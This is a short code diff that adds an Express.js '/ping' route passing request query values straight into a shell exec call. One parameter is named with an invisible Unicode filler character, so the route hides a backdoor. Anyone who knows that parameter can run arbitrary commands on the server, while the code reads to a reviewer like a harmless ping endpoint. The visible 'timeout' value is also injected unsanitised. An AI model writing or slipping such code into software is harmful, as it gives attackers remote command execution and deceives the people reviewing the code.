@@ -1,0 +1,4 @@
+app.get('/ping', (req, res) => {
+  const { timeout, ㅤ } = req.query;
+  exec(['ping', timeout, ㅤ].join(' '));
+});
